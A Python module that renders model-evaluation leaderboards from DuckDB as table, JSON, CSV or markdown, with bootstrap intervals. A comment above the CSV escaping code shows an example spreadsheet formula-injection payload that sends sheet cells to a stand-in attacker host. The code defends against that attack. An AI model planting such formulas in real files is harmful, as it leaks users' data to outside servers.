"""Leaderboard rows from ``level_scores`` and their text forms (table, json, csv, markdown).

One ranking rule everywhere: the ``rank`` column of the ``leaderboard`` model, competition
ranking over (level, level_score) — equal pairs share a rank and the next one skips (1, 1, 3).
Every format prints that rank and, once ``glc bootstrap`` has stored them, the intervals, each
named for the level it is for (``level_5_ci95``).
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from glc.analysis.basis import TEXT_COLUMNS, cells
from glc.compiler.contracts import PUBLIC, quote_ident

if TYPE_CHECKING:
    import duckdb

COLUMNS = PUBLIC["level_scores"].column_names
FORMATS = ("table", "json", "csv", "markdown")
LEVELS = (2, 3, 4, 5)
# what the table and markdown show of a row: the scores, then what they rest on (glc.analysis.basis)
SHOWN = ["rank", "model", "variant", "scope", "level_2", "level_3", "level_4", "level_5", "s_c", "s_g", "s_l",
         "level", *TEXT_COLUMNS]


@dataclass(frozen=True)
class Intervals:
    """Bootstrap intervals of one board: per model, per level (2..5), (lo, hi)."""

    confidence: float
    by_model: dict[str, dict[int, tuple[float | None, float | None]]] = field(default_factory=dict)

    def of(self, model: str, level: int) -> tuple[float | None, float | None]:
        return self.by_model.get(model, {}).get(level, (None, None))


def ci_name(level: int, confidence: float) -> str:
    """``level_5_ci95``: the interval column of a level at a confidence (0.975 -> ``ci97_5``)."""
    return f"level_{level}_ci{confidence * 100:g}".replace(".", "_")


def leaderboard_rows(con: duckdb.DuckDBPyConnection, variant: str, scope: str) -> list[dict[str, Any]]:
    """Rows of the ``leaderboard`` model for one board, best first: its ``rank``, then the columns of
    ``level_scores``."""
    # quoted column names from the contract, the board's names as bound values
    names = ["rank", *COLUMNS]
    cols = ", ".join(f"b.{quote_ident(c)}" for c in names)
    rows = con.execute(f"SELECT {cols} FROM leaderboard AS b WHERE b.variant = ? AND b.scope = ? "
                       "ORDER BY b.rank, b.model", [variant, scope]).fetchall()
    return [dict(zip(names, r, strict=True)) for r in rows]


def leaderboard_intervals(con: duckdb.DuckDBPyConnection, variant: str, scope: str) -> Intervals | None:
    """Bootstrap intervals of every level of one board, when ``glc bootstrap`` has stored them."""
    tables = {r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall()}
    if "level_intervals" not in tables:
        return None
    cols = ", ".join(f"level_{k}_lo, level_{k}_hi" for k in LEVELS)
    rows = con.execute(f"SELECT model, confidence, {cols} FROM level_intervals WHERE variant = ? AND scope = ?",
                       [variant, scope]).fetchall()
    if not rows:
        return None
    by_model = {r[0]: {k: (r[2 + 2 * i], r[3 + 2 * i]) for i, k in enumerate(LEVELS)} for r in rows}
    return Intervals(float(rows[0][1]), by_model)


def mark_overlaps(rows: list[dict[str, Any]], intervals: Intervals | None) -> list[str]:
    """'~' for a model whose interval (of the level it reached) overlaps the next-ranked model's at the
    same level, else ''."""
    marks = [""] * len(rows)
    if intervals is None:
        return marks
    for i in range(len(rows) - 1):
        a, b = rows[i], rows[i + 1]
        if a["level"] != b["level"] or a["level"] < 2:
            continue
        (a_lo, _), (_, b_hi) = intervals.of(a["model"], a["level"]), intervals.of(b["model"], b["level"])
        if a_lo is not None and b_hi is not None and a_lo <= b_hi:
            marks[i] = marks[i + 1] = "~"
    return marks


def interval_cells(rows: list[dict[str, Any]], intervals: Intervals | None) -> tuple[list[str], list[dict[str, str]]]:
    """The interval columns of a printed board: one per level some row reached (``level_5_ci95``),
    each row's interval under the level it reached ('~': it overlaps the next rank's)."""
    if intervals is None:
        return [], [{} for _ in rows]
    reached = sorted({r["level"] for r in rows if r["level"] >= 2}, reverse=True)
    names = {k: ci_name(k, intervals.confidence) for k in reached}
    out = []
    for r, mark in zip(rows, mark_overlaps(rows, intervals), strict=True):
        row = {names[k]: "-" for k in reached}
        if r["level"] >= 2:
            lo, hi = intervals.of(r["model"], r["level"])
            if lo is not None and hi is not None:
                row[names[r["level"]]] = f"[{lo:.4f}, {hi:.4f}]{' ~' if mark else ''}"
        out.append(row)
    return [names[k] for k in reached], out


def machine_fields(confidence: float) -> list[str]:
    """The fields of a json/csv row: rank, the columns of ``level_scores``, every level's interval."""
    return ["rank", *COLUMNS, *[f"{ci_name(k, confidence)}_{end}" for k in LEVELS for end in ("lo", "hi")]]


def machine_rows(rows: list[dict[str, Any]], intervals: Intervals | None,
                 confidence: float) -> list[dict[str, Any]]:
    """Rows for json and csv: rank, every column of ``level_scores``, and the interval of every
    level (``level_K_ciNN_lo``/``_hi``; null without ``glc bootstrap``)."""
    conf = intervals.confidence if intervals is not None else confidence
    out = []
    for r in rows:
        row = {"rank": r["rank"], **{c: r[c] for c in COLUMNS}}
        for k in LEVELS:
            lo, hi = intervals.of(r["model"], k) if intervals is not None else (None, None)
            row[f"{ci_name(k, conf)}_lo"], row[f"{ci_name(k, conf)}_hi"] = lo, hi
        out.append(row)
    return out


# A spreadsheet opens a CSV cell that starts with one of these as a formula (tab and carriage return: some
# strip them first); a model named '=HYPERLINK("https://evil.example/?"&B3, "details")' would send the
# board's cells to a stranger's server from the sheet of whoever opens `glc leaderboard --format csv`
# (the full-width forms: spreadsheets in East Asian locales read them as the ASCII ones)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: a text that would start a formula gets a
    leading ``'`` (OWASP's advice, which spreadsheets hide); numbers and other text are unchanged
    (``--format json`` keeps every name exact)."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def _fmt(v: Any) -> str:
    if v is None:
        return "-"
    if isinstance(v, float):
        return f"{v:.4f}"
    return str(v)


def render(rows: list[dict[str, Any]], fmt: str, intervals: Intervals | None = None,
           confidence: float = 0.95) -> str:
    if fmt in ("json", "csv"):
        data = machine_rows(rows, intervals, confidence)
        if fmt == "json":
            return json.dumps(data, indent=2, ensure_ascii=False)
        buf = io.StringIO()
        conf = intervals.confidence if intervals is not None else confidence
        writer = csv.DictWriter(buf, fieldnames=machine_fields(conf), lineterminator="\n")
        writer.writeheader()
        writer.writerows({k: csv_cell(v) for k, v in row.items()} for row in data)
        return buf.getvalue().rstrip("\n")
    ci_head, ci_rows = interval_cells(rows, intervals)
    head = [*SHOWN, *ci_head]
    body = []
    for r, ci in zip(rows, ci_rows, strict=True):
        shown = {**r, **cells(r), **ci}
        body.append([_fmt(shown[c]) for c in head])
    if fmt == "markdown":
        lines = ["| " + " | ".join(head) + " |", "|" + "|".join("---" for _ in head) + "|"]
        lines += ["| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |" for row in body]
        return "\n".join(lines)
    widths = [max(len(x) for x in col) for col in zip(head, *body, strict=True)]
    lines = ["  ".join(h.ljust(w) for h, w in zip(head, widths, strict=True)).rstrip()]
    lines += ["  ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)).rstrip() for row in body]
    return "\n".join(lines)
